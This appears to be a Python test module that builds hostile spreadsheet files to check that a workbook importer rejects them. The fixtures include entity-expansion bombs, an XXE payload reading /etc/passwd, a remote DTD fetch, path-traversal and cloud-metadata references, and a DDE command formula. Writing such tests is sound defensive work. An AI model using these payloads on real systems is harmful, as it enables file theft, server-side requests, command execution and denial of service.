"""Workbooks whose ZIP file is sound and whose contents are not: parts, XML, references, cells."""

from __future__ import annotations

from collections.abc import Callable
from random import Random

from tests.adapters.hostile_zips import (
    KIND,
    RELATIONS,
    WORKBOOK,
    Case,
    pack,
    parts,
    sheet,
    with_part,
)
from tests.adapters.hostile_zips import entries as entries_of

ENTITIES = "declares entities or a document type"
DAMAGED, UNKNOWN = "is damaged", "parts that no table needs"
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {x} "{f"&{y};" * 10}">' for x, y in zip("bcdefghi", "abcdefgh", strict=True)
    )
    + "]><worksheet><sheetData>&i;</sheetData></worksheet>"
)
QUADRATIC = f'<!DOCTYPE a [<!ENTITY a "{"x" * 50_000}">]><worksheet>{"&a;" * 500}</worksheet>'
XXE = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst><si><t>&a;</t></si></sst>'
PARAMETER = '<!DOCTYPE a [<!ENTITY % a SYSTEM "http://192.0.2.1/a.dtd"> %a;]><sst/>'
DECLARED = '<?xml version="1.0" encoding="{}"?>'
HEAD = '<c r="A1" t="inlineStr"><is><t>agency</t></is></c>'
HEAD += '<c r="B1" t="inlineStr"><is><t>workers</t></is></c>'


def made(**changed: str | bytes) -> Callable[[], bytes]:
    return lambda: pack(entries_of(parts(**changed)))


def rows(cells: str, before: str = "", after: str = "", row: str = 'r="2"') -> Callable[[], bytes]:
    """A table with the columns agency and workers, and these cells in row 2."""
    data = f'<row r="1">{HEAD}</row><row {row}>{cells}</row>'
    return made(sheet=sheet(data, before, after))


def value(raw: str, kind: str = "n", more: str = "") -> Callable[[], bytes]:
    return rows(f'<c r="B2" t="{kind}" {more}><v>{raw}</v></c>')


def text(written: str) -> Callable[[], bytes]:
    return rows(f'<c r="A2" t="inlineStr"><is><t>{written}</t></is></c>')


def relation(kind: str, target: str, more: str = "") -> Callable[[], bytes]:
    one = f'<Relationship Id="r9" Type="{KIND}/{kind}" Target="{target}" {more}/>'
    return made(relations=RELATIONS.replace("</Rel", f"{one}</Rel"))


def target(path: str, mode: str = "") -> Callable[[], bytes]:
    """The first sheet is said to be elsewhere."""
    return made(relations=RELATIONS.replace("worksheets/sheet1.xml", path + mode))


def book(old: str, new: str) -> Callable[[], bytes]:
    return made(book=WORKBOOK.replace(old, new))


def header(*names: str) -> Callable[[], bytes]:
    cells = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in names)
    return made(sheet=sheet(f"<row>{cells}</row>"))


def many_rows(count: int) -> Callable[[], bytes]:
    def make() -> bytes:
        data = "".join(f"<row><c><v>{n}</v></c></row>" for n in range(count))
        return pack(entries_of(parts(sheet=sheet(f'<row r="1">{HEAD}</row>{data}'))))

    return make


def many_strings() -> bytes:
    """Many texts, none of which is used."""
    random = Random(1)
    strings = "".join(f"<si><t>{random.randrange(999)}</t></si>" for _ in range(400_000))
    return pack(
        entries_of(parts(strings=f"<sst>{strings}</sst>", sheet=sheet("<row><c><f/></c></row>")))
    )


def many_names() -> bytes:
    """Every element has another name."""
    random = Random(2)
    names = "".join(f"<x{n:x}{random.randrange(9)}/>" for n in range(1_500_000))
    return pack(entries_of(parts(styles=f"<styleSheet>{names}</styleSheet>")))


def many_runs() -> bytes:
    random = Random(3)
    runs = "".join(f"<r><t>{random.randrange(99_999)}</t></r>" for _ in range(300_000))
    return text(runs.join(("</t>", "<t>")))()


def many_attributes() -> bytes:
    random = Random(4)
    pairs = " ".join(f'a{n}="{random.randrange(9)}"' for n in range(300_000))
    return pack(entries_of(parts(sheet=sheet(f"<row {pairs}><c><f/></c></row>"))))


def many_links() -> bytes:
    """Cells that all show one long text: 90 MB of text in a small file."""
    random = Random(5)
    link = '<row ht="{}"><c t="s"><v>0</v></c></row>'
    links = "".join(link.format(random.random()) for _ in range(20_000))
    strings = f"<sst><si><t>{'long ' * 900}</t></si></sst>"
    return pack(entries_of(parts(strings=strings, sheet=sheet(f'<row r="1">{HEAD}</row>{links}'))))


PARTS: dict[str, Case] = {
    "macros": (lambda: with_part("xl/vbaProject.bin"), "macros"),
    "macro sheet": (lambda: with_part("xl/macrosheets/sheet1.xml"), "macros"),
    "external link": (lambda: with_part("xl/externalLinks/externalLink1.xml"), "other workbooks"),
    "embedded zip": (lambda: with_part("xl/embeddings/a.zip", pack(entries_of())), "embedded"),
    "ActiveX": (lambda: with_part("xl/activeX/activeX1.xml"), "ActiveX"),
    "connections": (lambda: with_part("xl/connections.xml"), "data connections"),
    "query": (lambda: with_part("xl/queryTables/queryTable1.xml"), "data connections"),
    "menus": (lambda: with_part("customUI/customUI.xml"), "its own menus"),
    "controls": (lambda: with_part("xl/ctrlProps/ctrlProp1.xml"), "form controls"),
    "pivot": (lambda: with_part("xl/pivotCache/pivotCacheRecords1.xml"), "pivot tables"),
    "binary": (lambda: with_part("xl/worksheets/sheet1.bin"), "binary sheets (.xlsb)"),
    "OpenDocument": (lambda: with_part("content.xml"), "OpenDocument"),
    "program": (lambda: with_part("xl/setup.exe"), UNKNOWN),
    "script": (lambda: with_part("xl/media/image1.svg"), UNKNOWN),
    "no workbook": (lambda: pack(entries_of()[:1]), "is not a workbook"),
    "laughs": (made(sheet=LAUGHS), ENTITIES),
    "laughs in UTF-16": (made(sheet=LAUGHS.encode("utf-16")), ENTITIES),
    "laughs in UTF-16 BE": (made(sheet=b"\xfe\xff" + LAUGHS.encode("utf-16-be")), ENTITIES),
    "quadratic": (made(sheet=QUADRATIC), ENTITIES),
    "XXE": (made(strings=XXE), ENTITIES),
    "parameter entities": (made(strings=PARAMETER), ENTITIES),
    "document type": (made(styles="<!DOCTYPE html><styleSheet/>"), ENTITIES),
    "late document type": (made(styles=f"{' ' * 65_530}<!DOCTYPE a><a/>"), ENTITIES),
    "in a comment part": (lambda: with_part("xl/comments1.xml", XXE.encode()), ENTITIES),
    "in a drawing": (lambda: with_part("xl/drawings/vmlDrawing1.vml", XXE.encode()), ENTITIES),
    "UTF-7": (made(sheet=f"{DECLARED.format('UTF-7')}+ADwAIQ-DOCTYPE a+AD4-<a/>"), "not in UTF-8"),
    "EBCDIC": (made(sheet=DECLARED.format("cp037") + "<a/>"), "not in UTF-8"),
    "Latin-1 in UTF-16": (
        made(sheet=(DECLARED.format("latin-1") + "<a/>").encode("utf-16")),
        "not in UTF-8",
    ),
    "not XML": (made(sheet="{}"), DAMAGED),
    "half XML": (made(sheet="<worksheet><sheetData>"), DAMAGED),
    "not UTF-8": (made(sheet=b"<worksheet>\xff\xfe</worksheet>"), DAMAGED),
    "undefined entity": (made(sheet="<worksheet>&x;</worksheet>"), DAMAGED),
    "NUL reference": (text("a&#0;b"), DAMAGED),
    "deep": (made(sheet="<a>" * 5_000 + "</a>" * 5_000), "nested too deeply"),
    "many attributes": (many_attributes, "is a formula"),
    "sheet missing": (target("worksheets/sheet7.xml"), "not in the file"),
    "sheet outside": (target("../../../etc/passwd"), "not in the file"),
    "sheet on disk": (target("file:///etc/passwd"), "not in the file"),
    "sheet by name": (book('r:id="r1"', 'r:id="r0"'), "not in the file"),
    "sheet is a text": (target("sharedStrings.xml"), "not in the file"),
    "sheet is itself": (target("workbook.xml"), "not in the file"),
    "sheet on the web": (
        target("http://169.254.169.254/", '" TargetMode="External'),
        "refers to a place outside",
    ),
    "texts on the web": (
        relation("sharedStrings", "http://192.0.2.1/", 'TargetMode="External"'),
        "refers to a place outside",
    ),
    "frame on the web": (
        lambda: with_part(
            "xl/worksheets/_rels/sheet1.xml.rels",
            b'<R><Relationship Type="x/frame" Target="//h/a" TargetMode="External"/></R>',
        ),
        "refers to a place outside",
    ),
    "no sheet": (book("<sheet ", "<sheep "), "has no sheet"),
    "hidden sheet": (book("<sheet ", '<sheet state="hidden" '), "hidden first sheet"),
    "very hidden": (book("<sheet ", '<sheet state="veryHidden" '), "hidden first sheet"),
    "2,000 sheets": (book("<sheets>", "<sheets>" + "<sheet/>" * 2_000), "too many sheets"),
    "65,537 styles": (
        made(styles=f"<styleSheet><cellXfs>{'<xf/>' * 65_537}</cellXfs></styleSheet>"),
        "too many formats",
    ),
    "format by name": (
        made(styles='<styleSheet><cellXfs><xf numFmtId="x"/></cellXfs></styleSheet>'),
        DAMAGED,
    ),
    "million defined names": (
        book("</sheets>", "</sheets>" + '<definedName name="a1">1</definedName>' * 1_000_000),
        "30 MB in one part",
    ),
    "OLE": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5_000, "encrypted workbook"),
}

TYPE, FEW = "type the cell anew", "at most 100,000 rows"
CELLS: dict[str, Case] = {
    "text too far": (value("5", "s"), f"cell B2 (workers): '5': is damaged; {TYPE}"),
    "text before": (value("-1", "s"), TYPE),
    "text far off": (value("1000000000", "s"), TYPE),
    "text by name": (value("one", "s"), TYPE),
    "Khmer digit": (value("០", "s"), TYPE),
    "day -1": (value("-1", more='s="1"'), "is not a day"),
    "day 10,000,000": (value("1e7", more='s="1"'), "is not a day"),
    "day 3,000,000": (value("3000000", more='s="1"'), "is not a day"),
    "leap day of 1900": (value("60", more='s="1"'), "a day that never was"),
    "noon": (value("45000.5", more='s="1"'), "has a time of day"),
    "no number": (value("NaN"), TYPE),
    "endless": (value("1e999"), TYPE),
    "underscore": (value("1_000"), TYPE),
    "too exact": (value("1234567890123456789"), "more digits than a number cell keeps"),
    "no truth": (value("2", "b"), TYPE),
    "no kind": (value("2", "q"), TYPE),
    "error": (value("#N/A", "e"), "cell B2 (workers): '#N/A': is an error value"),
    "formula": (rows('<c r="B2"><f>1+1</f><v>100</v></c>'), "'=1+1': is a formula"),
    "shared formula": (rows('<c r="B2"><f t="shared" si="0"/><v>9</v></c>'), "is a formula"),
    "formula of text": (rows('<c r="B2" t="str"><f>A1</f><v>x</v></c>'), "is a formula"),
    "command": (rows("<c r=\"B2\"><f>cmd|'/c calc'!A0</f></c>"), "is a formula"),
    "two values": (rows('<c r="B2"><v>1</v><is><t>2</t></is></c>'), TYPE),
    "far cell": (
        made(sheet=sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
        "cell XFD1048576: '1': lies too far right",
    ),
    "far cell below": (rows('<c r="XFD2"><v>1</v></c>'), "cell XFD2: '1': lies too far right"),
    "unnamed column": (rows('<c r="C2"><v>1</v></c>'), "names no column for it"),
    "61 columns": (header(*(f"c{n}" for n in range(61))), "cell BI1: 'c60': lies too far right"),
    "merged": (
        rows("", after='<mergeCells><mergeCell ref="A1:ZZ20000"/></mergeCells>'),
        "cells A1:ZZ20000: '': are merged",
    ),
    "merged nonsense": (rows("", after='<mergeCell ref="A:B"/>'), DAMAGED),
    "hidden row": (rows('<c r="B2"><v>1</v></c>', row='r="2" hidden="1"'), "in a hidden row"),
    "all rows hidden": (
        rows('<c r="B2"><v>1</v></c>', '<sheetFormatPr zeroHeight="1"/>'),
        "in a hidden row",
    ),
    "hidden column": (
        rows("", '<cols><col min="2" max="16384" hidden="1"/></cols>'),
        "cell B1 (workers): 'workers': stands in a hidden column",
    ),
    "row 1,048,577": (rows("", row='r="1048577"'), "rows out of order"),
    "row 1 again": (rows("", row='r="1"'), "rows out of order"),
    "row -1": (rows("", row='r="-1"'), DAMAGED),
    "cell again": (rows('<c r="B2"/><c r="B2"/>'), "cells out of order"),
    "cell of row 9": (rows('<c r="B9"/>'), "cells out of order"),
    "cell XFE2": (rows('<c r="XFE2"/>'), "cells out of order"),
    "cell 2B": (rows('<c r="2B"/>'), DAMAGED),
    "row in a row": (rows('<row r="3"/>'), "rows out of order"),
    "cell in a cell": (rows('<c r="A2"><c r="B2"/></c>'), "cells out of order"),
    "100,001 rows": (many_rows(100_001), FEW),
    "5,001 characters": (text("x" * 5_001), "may have 5,000 characters"),
    "32,768 characters": (text("x" * 32_768), "may have 5,000 characters"),
    "spaces, then text": (text(" " * 50_000 + "x"), "may have 5,000 characters"),
    "300,000 runs": (many_runs, "may have 5,000 characters"),
    "much text": (many_links, "holds too much text"),
    "NUL": (text("a_x0000_b"), "U+0000"),
    "bell": (text("a_x0007_b"), "U+0007"),
    "next line": (text("a\u0085b"), "U+0085"),
    "half a pair": (text("a_xD800_b"), "U+D800"),
    "override": (text("exe\u202excod"), "U+202E"),
    "isolate": (text("a\u2066b"), "U+2066"),
    "same name twice": (header("agency", "Agency"), "stands twice in the header"),
    "no name": (header("agency", "", "workers"), "cell B1: '': has no name in the header"),
    "two lines": (header("agency&#10;code"), "one word on one line"),
    "empty": (made(sheet=sheet("")), "first sheet: '': holds no table"),
    "blank": (made(sheet=sheet('<row r="9"><c r="B9" s="1"/></row>')), "holds no table"),
    "strings missing": (
        made(relations=RELATIONS.replace("sharedStrings.xml", "no.xml")),
        "refers to a part that is not in the file",
    ),
    "many strings": (many_strings, "is a formula"),
}
